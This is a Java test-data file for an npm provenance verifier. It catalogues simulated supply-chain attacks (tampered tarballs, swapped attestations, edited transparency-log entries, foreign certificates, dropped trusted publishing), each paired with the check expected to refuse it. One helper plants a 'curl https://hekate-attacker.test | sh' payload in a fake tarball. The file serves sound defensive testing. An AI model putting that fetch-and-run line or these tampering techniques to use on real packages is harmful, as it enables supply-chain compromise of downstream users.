package dev.hekate.testdata.registry;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.hekate.testdata.FakeBundleBuilder;
import dev.hekate.testdata.FakeSigstore;
import dev.hekate.testdata.GithubExtensions;
import dev.hekate.testdata.Tamper;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.UnaryOperator;

/**
 * A catalogue of attacks on npm provenance, each publishing into a {@link FakeRegistry} a package
 * version that a correct verifier must not accept as is. Every attack starts from an honest
 * {@link GeneratedNpm} package and changes one thing; the signatures that are meant to stay valid
 * stay valid. Each names the verifier check that should refuse it ({@link #check()}, as a check
 * id such as {@code npm.tarball}, not a hekate-core type) and the outcome expected.
 *
 * <pre>{@code
 * AttackedPackage a = NpmAttack.TAMPERED_TARBALL.publish(registry, sigstore, "victim");
 * Verdict v = verify(registry.baseUrl(), a.name(), a.version());
 * assertEquals(a.expected(), v.status());  // and the failed check is a.check()
 * }</pre>
 *
 * <p>One file on purpose, though long: each attack is one constant, its expectations and its one
 * publishing step side by side, so that an attack reads in one place and a new one is one more case
 * in each switch.
 */
public enum NpmAttack {

  /** The registry serves other bytes than the ones dist.integrity and both attestations describe (a swapped download). */
  TAMPERED_TARBALL("served tarball differs from dist.integrity and the attested digest",
      "npm.tarball", ExpectedOutcome.FAILED),
  /** dist.integrity (and the tarball served) are of a rebuilt tarball; the attestations are about the original. */
  REGISTRY_INTEGRITY_DIFFERS("dist.integrity differs from the attested digest; the tarball matches dist.integrity",
      "npm.integrity", ExpectedOutcome.FAILED),
  /** Another package's valid attestations (same version) are served for this one. */
  ATTESTATIONS_SWAPPED("the attestations are another package's, valid in themselves",
      "npm.subject", ExpectedOutcome.FAILED),
  /** The response has the provenance but no publish attestation. */
  PUBLISH_MISSING("no publish attestation next to the provenance",
      "npm.attestations", ExpectedOutcome.FAILED),
  /** The response has the publish attestation only. */
  PROVENANCE_MISSING("no provenance (publish attestation only)",
      "npm.attestations (no provenance)", ExpectedOutcome.MISSING),
  /** The attestations endpoint answers 404 and dist.attestations is absent. */
  NO_ATTESTATIONS("no attestations at all (404)",
      "npm.attestations (no provenance)", ExpectedOutcome.MISSING),
  /** The provenance bundle's tlogEntries is empty. */
  TLOG_ENTRY_REMOVED("the provenance is not in the transparency log",
      "bundle.tlog_entries", ExpectedOutcome.FAILED),
  /**
   * The provenance's canonicalized body names another payload hash; nothing is re-signed, so the
   * SET and the inclusion proof no longer match either: whichever of those checks runs first fails.
   */
  TLOG_ENTRY_EDITED("the provenance's log entry body was edited after logging",
      "tlog.entry_body", ExpectedOutcome.FAILED),
  /**
   * The provenance statement is this package's, but the Fulcio certificate that signed it was
   * issued to another package's release workflow (another repository); chain, SCT and log are valid.
   */
  CERT_FROM_OTHER_PACKAGE("the provenance is signed by a certificate for another repository",
      "provenance.certificate", ExpectedOutcome.FAILED),
  /** The provenance is signed with a certificate from an attacker's CA (same names, untrusted key). */
  ATTACKER_SIGNED_ENVELOPE("the provenance is signed by a certificate from an untrusted CA",
      "certificate.chain", ExpectedOutcome.FAILED),
  /** 1.0.0 and 1.1.0 have provenance; 1.2.0 (latest, the target) is published without any attestations. */
  LATER_VERSION_WITHOUT_PROVENANCE("the latest version dropped provenance that earlier versions had",
      "npm.attestations (no provenance) + regression", ExpectedOutcome.MISSING),
  /** The packument's unsigned repository and gitHead name another repository and commit than the provenance. */
  REPOSITORY_MISMATCH("the registry's unsigned repository and gitHead disagree with the provenance",
      "registry.source (finding only)", ExpectedOutcome.VERIFIED),
  /**
   * The response labels the publish bundle as provenance and the provenance as the publish
   * attestation. A verifier that verifies each bundle under its label's policy before reading the
   * statement fails earlier, at the key policy ({@code public.key}); either way it is FAILED.
   */
  PREDICATE_TYPE_MISLABELLED("the outer predicateType labels disagree with the signed statements",
      "npm.attestations", ExpectedOutcome.FAILED),
  /**
   * A GitHub Actions certificate for a pull-request workflow ({@code pr-target.yml} at
   * {@code refs/pull/42/merge}, event {@code pull_request_target}) of the real repository, over a
   * provenance whose {@code buildType} says GitLab and whose parameters claim the real repository,
   * a release tag and {@code release.yml}. Judged by GitLab's shorter list of claims it would pass
   * (repository and commit agree); the platform is the certificate's, so it is refused.
   */
  PLATFORM_SWAPPED("a GitHub pull-request certificate over a provenance that calls itself a GitLab release build",
      "provenance.builder", ExpectedOutcome.FAILED),
  /**
   * 1.0.0 is honest; 1.1.0's certificate carries another repository id and owner id (the
   * repository was deleted and re-created, perhaps by someone else), and its provenance leaves
   * both ids out. Continuity must read the ids from the certificate: VERIFIED, with findings.
   */
  REPOSITORY_RECREATED("the repository and owner ids in the certificate changed; the provenance omits them",
      "findings: repository_id_changed, owner_id_changed", ExpectedOutcome.VERIFIED),
  /** 1.0.0 had provenance; 2.0.0, a new major line, is published without (sigstore 3.0.0 after 1.3.0, nx 20.9.0). */
  NEW_MAJOR_WITHOUT_PROVENANCE("a new major line published without the provenance the previous line had",
      "npm.attestations (no provenance) + regression", ExpectedOutcome.MISSING),
  /**
   * 0.1.0 never had provenance, 1.0.0 has it; then 0.2.0, a release of the old line, is published
   * without (axios 0.30.4 after 1.x): a comparison within the major line would see nothing.
   */
  OLD_LINE_WITHOUT_PROVENANCE("an old major line released without provenance after a newer line had it",
      "npm.attestations (no provenance) + regression", ExpectedOutcome.MISSING),
  /** 1.0.0 came through trusted publishing; 1.1.0 keeps provenance but not trusted publishing (a stolen token). */
  TRUSTED_PUBLISHING_DROPPED("provenance kept, trusted publishing dropped",
      "findings: trust_downgrade", ExpectedOutcome.VERIFIED),
  /**
   * 0.9.0 had provenance; the packument advertises a provenance for 1.0.0 in dist.attestations,
   * and the attestations endpoint answers 404: the registry contradicting itself is not "no provenance".
   */
  ADVERTISED_NOT_SERVED("the packument advertises a provenance the registry does not serve",
      "npm.attestations", ExpectedOutcome.FAILED),
  /**
   * 1.0.0 was built on a tag push; 1.1.0 by the same workflow started by hand ({@code workflow_dispatch})
   * on a branch: what a stolen token with workflow rights, or a pushed workflow change, produces.
   * Certificate and provenance agree: VERIFIED, with findings.
   */
  DISPATCHED_FROM_BRANCH("after tag builds, a release built from workflow_dispatch on a branch",
      "findings: trigger_changed, ref_kind_changed", ExpectedOutcome.VERIFIED),
  /**
   * 1.0.0 was built on a tag push; 1.1.0 by a {@code pull_request_target} run at a pull request's
   * merge ref: a pull request's code running with the repository's OIDC token (a compromised workflow).
   */
  PULL_REQUEST_TARGET_BUILD("after tag builds, a release built from a pull_request_target run",
      "findings: trigger_changed, pull_request_trigger, ref_kind_changed", ExpectedOutcome.VERIFIED),
  /**
   * 1.0.0 is honest; 1.1.0's provenance does not verify (not in the log); 1.2.0 is built from the
   * attacker's repository. Continuity must walk back past 1.1.0 to 1.0.0 and find the change.
   */
  CHANGE_BEHIND_UNVERIFIABLE("a repository change hidden behind a version whose provenance does not verify",
      "findings: repository_changed", ExpectedOutcome.VERIFIED),
  /**
   * A GitLab certificate from a merge-request pipeline (branch ref, another project id, pipeline
   * source {@code merge_request_event}) over a provenance claiming the project's tag release pipeline.
   */
  GITLAB_CLAIMS_DIFFER("a GitLab merge-request certificate over a provenance claiming a tag release pipeline",
      "provenance.certificate", ExpectedOutcome.FAILED),
  /** 1.0.0 was approved by a maintainer through staged publishing; 1.1.0 was published without approval. */
  APPROVAL_DROPPED("a staged-publishing approval the previous version had is missing",
      "findings: approval_dropped", ExpectedOutcome.VERIFIED),
  /**
   * 1.0.0 came from the real repository; 2.0.0, a new major line, is built — with valid provenance —
   * from the attacker's repository: continuity across major lines must see it.
   */
  NEW_MAJOR_FROM_OTHER_REPOSITORY("a new major line built from another repository",
      "findings: repository_changed", ExpectedOutcome.VERIFIED),
  /**
   * 1.0.0 came through trusted publishing with provenance; 1.1.0 has neither (axios 1.14.1 after
   * 1.13.4–1.14.0): the bar is trusted_publisher, the version's tier none.
   */
  TRUST_AND_PROVENANCE_DROPPED("trusted publishing and provenance both dropped",
      "npm.attestations (no provenance) + regression", ExpectedOutcome.MISSING);

  /** The version attacked (LATER_VERSION_WITHOUT_PROVENANCE also publishes 1.0.0 and 1.1.0 before it). */
  public static final String VERSION = "1.0.0";
  static final String ATTACKER_OWNER = "hekate-attacker";
  private static final String GITLAB_ISSUER = "https://gitlab.com";

  // Field declarations and assignments: each enum constant carries its own values.
  private final String breaks;
  private final String check;
  private final ExpectedOutcome expected;

  NpmAttack(String breaks, String check, ExpectedOutcome expected) {
    this.breaks = breaks;
    this.check = check;
    this.expected = expected;
  }

  /** What the attack breaks, in a few words. */
  public String breaks() {
    return breaks;
  }

  /** The verifier check that should refuse it, e.g. {@code npm.tarball} (MISSING and finding cases say so). */
  public String check() {
    return check;
  }

  /** What a correct verifier concludes. */
  public ExpectedOutcome expected() {
    return expected;
  }

  /** Whether the verifier should also report a regression (an earlier version was published with more trust). */
  public boolean regression() {
    return switch (this) {
      case LATER_VERSION_WITHOUT_PROVENANCE, NEW_MAJOR_WITHOUT_PROVENANCE, OLD_LINE_WITHOUT_PROVENANCE,
          TRUSTED_PUBLISHING_DROPPED, ADVERTISED_NOT_SERVED, TRUST_AND_PROVENANCE_DROPPED -> true;
      default -> false;
    };
  }

  /** The finding types (wire names) the verdict must carry, e.g. {@code repository_mismatch}. */
  public List<String> findings() {
    return switch (this) {
      case REPOSITORY_MISMATCH -> List.of("repository_mismatch");
      case REPOSITORY_RECREATED -> List.of("repository_id_changed", "owner_id_changed");
      case LATER_VERSION_WITHOUT_PROVENANCE, NEW_MAJOR_WITHOUT_PROVENANCE, OLD_LINE_WITHOUT_PROVENANCE,
          TRUST_AND_PROVENANCE_DROPPED -> List.of("trust_downgrade", "provenance_regression");
      case NEW_MAJOR_FROM_OTHER_REPOSITORY -> List.of("repository_changed");
      case TRUSTED_PUBLISHING_DROPPED, ADVERTISED_NOT_SERVED -> List.of("trust_downgrade");
      case DISPATCHED_FROM_BRANCH -> List.of("trigger_changed", "ref_kind_changed");
      case PULL_REQUEST_TARGET_BUILD -> List.of("trigger_changed", "pull_request_trigger", "ref_kind_changed");
      case CHANGE_BEHIND_UNVERIFIABLE -> List.of("repository_changed");
      case APPROVAL_DROPPED -> List.of("approval_dropped");
      default -> List.of();
    };
  }

  /** Publishes the attack on {@code name} in the current generation ({@link BundleGeneration#V03_DSSE}). */
  public AttackedPackage publish(FakeRegistry registry, FakeSigstore sigstore, String name) {
    return publish(registry, sigstore, name, BundleGeneration.V03_DSSE);
  }

  /**
   * Publishes the attack on {@code name} with bundles of {@code generation}.
   *
   * @return the attacked version and the honest package it was derived from
   */
  public AttackedPackage publish(FakeRegistry registry, FakeSigstore sigstore, String name, BundleGeneration generation) {
    Objects.requireNonNull(registry, "registry");
    Instant now = sigstore.now();
    String version = switch (this) {
      case LATER_VERSION_WITHOUT_PROVENANCE, CHANGE_BEHIND_UNVERIFIABLE -> "1.2.0";
      case REPOSITORY_RECREATED, TRUSTED_PUBLISHING_DROPPED, DISPATCHED_FROM_BRANCH, PULL_REQUEST_TARGET_BUILD,
          APPROVAL_DROPPED, TRUST_AND_PROVENANCE_DROPPED -> "1.1.0";
      case NEW_MAJOR_WITHOUT_PROVENANCE, NEW_MAJOR_FROM_OTHER_REPOSITORY -> "2.0.0";
      case OLD_LINE_WITHOUT_PROVENANCE -> "0.2.0";
      default -> VERSION;
    };
    GeneratedPackage honest = switch (this) {
      case TLOG_ENTRY_REMOVED -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          b -> b.tamper(Tamper.NO_TLOG_ENTRY));
      case ATTACKER_SIGNED_ENVELOPE -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          b -> b.tamper(Tamper.UNTRUSTED_CA));
      case CERT_FROM_OTHER_PACKAGE -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          otherPackagesCertificate(name, version));
      case PLATFORM_SWAPPED -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          pullRequestCertificateOverGitLabClaims(name, version));
      case REPOSITORY_RECREATED -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          recreatedRepository(name, version));
      case DISPATCHED_FROM_BRANCH -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          builtFrom(GeneratedNpm.repositoryOf(name), "refs/heads/main", "workflow_dispatch", name, version));
      case PULL_REQUEST_TARGET_BUILD -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          builtFrom(GeneratedNpm.repositoryOf(name), "refs/pull/42/merge", "pull_request_target", name, version));
      case CHANGE_BEHIND_UNVERIFIABLE -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          builtFrom("https://github.com/" + ATTACKER_OWNER + "/evil", "refs/tags/v" + version, "push", name, version));
      case GITLAB_CLAIMS_DIFFER -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          gitLabMergeRequestCertificateOverReleaseClaims(name, version));
      case NEW_MAJOR_FROM_OTHER_REPOSITORY -> GeneratedNpm.mint(sigstore, name, version, generation, now,
          builtFrom("https://github.com/" + ATTACKER_OWNER + "/evil", "refs/tags/v" + version, "push", name, version));
      default -> GeneratedNpm.generate(sigstore, name, version, generation, now);
    };
    PackageVersion.Builder served = honest.packageVersion();
    switch (this) {
      case TAMPERED_TARBALL -> served.tarballOverride(rebuilt(name, version));
      case REGISTRY_INTEGRITY_DIFFERS -> served.tarball(rebuilt(name, version));
      case ATTESTATIONS_SWAPPED -> served.attestations(
          GeneratedNpm.generate(sigstore, otherName(name), version, generation, now).attestations());
      case PUBLISH_MISSING -> served.attestations(FakeSigstore.npmAttestationsResponse(honest.provenance()));
      case PROVENANCE_MISSING -> served.attestations(FakeSigstore.npmAttestationsResponse(honest.publish()));
      case NO_ATTESTATIONS, LATER_VERSION_WITHOUT_PROVENANCE, NEW_MAJOR_WITHOUT_PROVENANCE,
          OLD_LINE_WITHOUT_PROVENANCE, TRUST_AND_PROVENANCE_DROPPED -> served.noAttestations();
      case ADVERTISED_NOT_SERVED -> served.advertisedButNotServed(honest.provenance().predicateType().orElseThrow());
      case TLOG_ENTRY_EDITED -> served.attestations(GeneratedNpm.response(List.of(
          Map.entry(honest.publish().predicateType().orElseThrow(), honest.publish().json()),
          Map.entry(honest.provenance().predicateType().orElseThrow(), editLogBody(honest.provenance().json())))));
      case REPOSITORY_MISMATCH -> served
          .gitHead(GeneratedNpm.commitOf(otherName(name), version))
          .repositoryUrl("git+https://github.com/" + ATTACKER_OWNER + "/" + repositoryName(name) + ".git");
      case PREDICATE_TYPE_MISLABELLED -> served.attestations(GeneratedNpm.response(List.of(
          Map.entry(honest.provenance().predicateType().orElseThrow(), honest.publish().json()),
          Map.entry(honest.publish().predicateType().orElseThrow(), honest.provenance().json()))));
      case TLOG_ENTRY_REMOVED, ATTACKER_SIGNED_ENVELOPE, CERT_FROM_OTHER_PACKAGE, PLATFORM_SWAPPED,
          REPOSITORY_RECREATED, TRUSTED_PUBLISHING_DROPPED, DISPATCHED_FROM_BRANCH, PULL_REQUEST_TARGET_BUILD,
          CHANGE_BEHIND_UNVERIFIABLE, GITLAB_CLAIMS_DIFFER, APPROVAL_DROPPED, NEW_MAJOR_FROM_OTHER_REPOSITORY -> { }
    }
    switch (this) {
      case REPOSITORY_RECREATED, NEW_MAJOR_WITHOUT_PROVENANCE, DISPATCHED_FROM_BRANCH, PULL_REQUEST_TARGET_BUILD,
          NEW_MAJOR_FROM_OTHER_REPOSITORY ->
          GeneratedNpm.publishVerified(registry, sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(30)));
      case APPROVAL_DROPPED -> registry.publish(GeneratedNpm.generate(sigstore, name, "1.0.0", generation,
          now.minus(Duration.ofDays(30))).packageVersion().approvedBy("hekate-maintainer").build());
      case CHANGE_BEHIND_UNVERIFIABLE -> {
        GeneratedNpm.publishVerified(registry, sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(60)));
        registry.publish(GeneratedNpm.mint(sigstore, name, "1.1.0", generation, now.minus(Duration.ofDays(30)),
            b -> b.tamper(Tamper.NO_TLOG_ENTRY)).packageVersion().build());
      }
      case ADVERTISED_NOT_SERVED ->
          GeneratedNpm.publishVerified(registry, sigstore, name, "0.9.0", generation, now.minus(Duration.ofDays(30)));
      case TRUSTED_PUBLISHING_DROPPED, TRUST_AND_PROVENANCE_DROPPED -> registry.publish(GeneratedNpm.generate(
          sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(30))).packageVersion().trustedPublisher(true)
          .build());
      case OLD_LINE_WITHOUT_PROVENANCE -> {
        registry.publish(GeneratedNpm.generate(sigstore, name, "0.1.0", generation, now.minus(Duration.ofDays(90)))
            .packageVersion().noAttestations().build());
        GeneratedNpm.publishVerified(registry, sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(60)));
      }
      default -> { }
    }
    if (this == LATER_VERSION_WITHOUT_PROVENANCE) {
      GeneratedNpm.publishVerified(registry, sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(60)));
      GeneratedNpm.publishVerified(registry, sigstore, name, "1.1.0", generation, now.minus(Duration.ofDays(30)));
    }
    registry.publish(served.build());
    return new AttackedPackage(this, name, version, honest);
  }

  /** The package whose attestations or certificate an attack borrows. */
  static String otherName(String name) {
    return name + "-other";
  }

  private static String repositoryName(String name) {
    String repository = GeneratedNpm.repositoryOf(name);
    return repository.substring(repository.lastIndexOf('/') + 1);
  }

  /** The same package rebuilt with other code: a valid tarball, but not the attested one. */
  private static byte[] rebuilt(String name, String version) {
    return GeneratedNpm.tarball(name, version,
        "require('child_process').exec('curl https://hekate-attacker.test | sh');\n");
  }

  private static UnaryOperator<FakeBundleBuilder> otherPackagesCertificate(String name, String version) {
    String otherIdentity = GeneratedNpm.workflowIdentity(otherName(name), version);
    GithubExtensions other = GithubExtensions.forWorkflow(otherIdentity, GeneratedNpm.commitOf(otherName(name), version));
    // npmProvenance already wrote this package's statement; only the certificate changes.
    return b -> b.identity(otherIdentity, FakeBundleBuilder.GITHUB_ISSUER).githubExtensions(other);
  }

  private static UnaryOperator<FakeBundleBuilder> pullRequestCertificateOverGitLabClaims(String name, String version) {
    String repository = GeneratedNpm.repositoryOf(name);
    String identity = repository + "/.github/workflows/pr-target.yml@refs/pull/42/merge";
    String commit = GeneratedNpm.commitOf(name, version);
    GithubExtensions pullRequest = withTrigger(GithubExtensions.forWorkflow(identity, commit), "pull_request_target");
    return b -> b.identity(identity, FakeBundleBuilder.GITHUB_ISSUER).githubExtensions(pullRequest)
        .npmGitLabProvenance(name, version, GeneratedNpm.tarball(name, version), repository, commit, "v" + version,
            ".github/workflows/release.yml");
  }

  private static UnaryOperator<FakeBundleBuilder> recreatedRepository(String name, String version) {
    String identity = GeneratedNpm.workflowIdentity(name, version);
    GithubExtensions honest = GithubExtensions.forWorkflow(identity, GeneratedNpm.commitOf(name, version));
    GithubExtensions recreated = withIds(honest, "990001", "990002");
    GithubExtensions silent = withIds(honest, "", "");
    return b -> b.githubExtensions(recreated)
        .npmProvenanceClaiming(name, version, GeneratedNpm.tarball(name, version), silent);
  }

  /**
   * The release workflow of {@code repository} run at {@code ref} on {@code event}; the provenance
   * says the same as the certificate, so the version verifies and only its history tells.
   */
  private static UnaryOperator<FakeBundleBuilder> builtFrom(String repository, String ref, String event, String name,
      String version) {
    String identity = repository + "/.github/workflows/release.yml@" + ref;
    GithubExtensions build = withTrigger(GithubExtensions.forWorkflow(identity, GeneratedNpm.commitOf(name, version)),
        event);
    return b -> b.identity(identity, FakeBundleBuilder.GITHUB_ISSUER).githubExtensions(build)
        .npmProvenanceClaiming(name, version, GeneratedNpm.tarball(name, version), build);
  }

  /**
   * A GitLab certificate for the project's merge-request pipeline (branch {@code feature}, project id
   * 71234567, source {@code merge_request_event}) over the npm CLI's GitLab provenance claiming the
   * project's tag pipeline (tag {@code v<version>}, project id 51234567, source {@code push}).
   */
  private static UnaryOperator<FakeBundleBuilder> gitLabMergeRequestCertificateOverReleaseClaims(String name,
      String version) {
    String path = GeneratedNpm.repositoryOf(name).substring("https://github.com/".length());
    String project = "https://gitlab.com/" + path;
    String namespace = project.substring(0, project.lastIndexOf('/'));
    String commit = GeneratedNpm.commitOf(name, version);
    String san = project + "//.gitlab-ci.yml@refs/heads/feature";
    GithubExtensions mergeRequest = new GithubExtensions(san, commit, "gitlab-hosted", project, commit,
        "refs/heads/feature", "71234567", namespace, "61234567", san, commit, "merge_request_event",
        project + "/-/jobs/6455432118", "public");
    return b -> b.identity(san, GITLAB_ISSUER).githubExtensions(mergeRequest)
        .npmGitLabProvenance(name, version, GeneratedNpm.tarball(name, version), project, commit, "v" + version,
            ".gitlab-ci.yml", "51234567", "61234567", "push");
  }

  private static GithubExtensions withTrigger(GithubExtensions e, String trigger) {
    return new GithubExtensions(e.buildSignerUri(), e.buildSignerDigest(), e.runnerEnvironment(), e.sourceRepositoryUri(),
        e.sourceRepositoryDigest(), e.sourceRepositoryRef(), e.sourceRepositoryIdentifier(), e.sourceRepositoryOwnerUri(),
        e.sourceRepositoryOwnerIdentifier(), e.buildConfigUri(), e.buildConfigDigest(), trigger, e.runInvocationUri(),
        e.sourceRepositoryVisibility());
  }

  private static GithubExtensions withIds(GithubExtensions e, String repositoryId, String ownerId) {
    return new GithubExtensions(e.buildSignerUri(), e.buildSignerDigest(), e.runnerEnvironment(), e.sourceRepositoryUri(),
        e.sourceRepositoryDigest(), e.sourceRepositoryRef(), repositoryId, e.sourceRepositoryOwnerUri(), ownerId,
        e.buildConfigUri(), e.buildConfigDigest(), e.buildTrigger(), e.runInvocationUri(), e.sourceRepositoryVisibility());
  }

  /**
   * The bundle with its first tlog entry's body naming another payload hash. The body is
   * re-encoded canonically; the SET, inclusion proof and checkpoint are left as they were.
   */
  static byte[] editLogBody(byte[] bundleJson) {
    ObjectNode bundle = (ObjectNode) RegistryJson.parse(bundleJson);
    ObjectNode entry = (ObjectNode) bundle.at("/verificationMaterial/tlogEntries/0");
    byte[] body = Base64.getDecoder().decode(entry.path("canonicalizedBody").asText());
    JsonNode parsed = RegistryJson.parse(body);
    String fake = HexFormat.of().formatHex(RegistryJson.sha256(
        "hekate-attacker: another payload".getBytes(StandardCharsets.UTF_8)));
    if (!replacePayloadHash(parsed, fake)) {
      throw new IllegalArgumentException("the log entry body has no payloadHash to edit");
    }
    entry.put("canonicalizedBody", Base64.getEncoder().encodeToString(RegistryJson.canonical(parsed)));
    return RegistryJson.compact(bundle);
  }

  private static boolean replacePayloadHash(JsonNode node, String hex) {
    if (node instanceof ObjectNode object) {
      JsonNode hash = object.get("payloadHash");
      if (hash instanceof ObjectNode h) {
        if (h.has("value")) {
          h.put("value", hex);
        } else {
          h.put("digest", Base64.getEncoder().encodeToString(HexFormat.of().parseHex(hex)));
        }
        return true;
      }
    }
    for (JsonNode child : node) {
      if (replacePayloadHash(child, hex)) {
        return true;
      }
    }
    return false;
  }

  /**
   * One published attack: the version a verifier should be asked about, and the honest package the
   * attack was derived from (its trust material, its genuine tarball and bundles).
   */
  // One null check per component: records validate what they hold.
  public record AttackedPackage(NpmAttack attack, String name, String version, GeneratedPackage honest) {
    public AttackedPackage {
      Objects.requireNonNull(attack, "attack");
      Objects.requireNonNull(name, "name");
      Objects.requireNonNull(version, "version");
      Objects.requireNonNull(honest, "honest");
    }

    /** {@link NpmAttack#expected()}. */
    public ExpectedOutcome expected() {
      return attack.expected();
    }

    /** {@link NpmAttack#check()}. */
    public String check() {
      return attack.check();
    }
  }
}
